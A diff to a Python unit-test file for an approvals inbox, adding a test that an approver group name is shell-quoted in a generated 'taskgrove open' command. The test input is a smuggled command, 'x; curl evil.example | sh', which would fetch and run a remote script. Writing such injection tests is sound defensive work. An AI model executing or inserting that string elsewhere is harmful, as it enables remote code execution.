@@ -1,11 +1,14 @@
 """Decisions by the inbox's form: the same rules, the same audit, the same events as by the API."""
 
 import asyncio
-from datetime import timedelta
+import shlex
+from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
 
+from services.approvals.domain.principals import Principal
+from services.approvals.web.choosing import asked_of
 from shared.contracts.approvals import ApprovalDecided
 from tests.unit.approvals.browsing import log_in
 from tests.unit.approvals.desk import Desk, event_of, until
@@ -158,3 +161,10 @@ class TestList:
         url = first.rpartition('href="/inbox?')[2].partition('"')[0].replace("&amp;", "&")
         second = (await tab.get(f"/inbox?{url}")).text
         assert ("Number 049" in first, "Number 050" in first, "Number 050" in second, "Number 059" in second) == (True, False, True, True)
+
+
+def test_the_name_of_a_group_is_no_command_of_its_own() -> None:
+    asking = question(ID, approvers=["x; curl evil.example | sh"])
+    admin = Principal("ada", frozenset({"admin"}), frozenset())
+    asked = asked_of(asking, admin, withdrawn=False, now=datetime.now(UTC))
+    assert shlex.split(asked.command) == ["taskgrove", "open", "--as", "NAME", "--group", "x; curl evil.example | sh"]
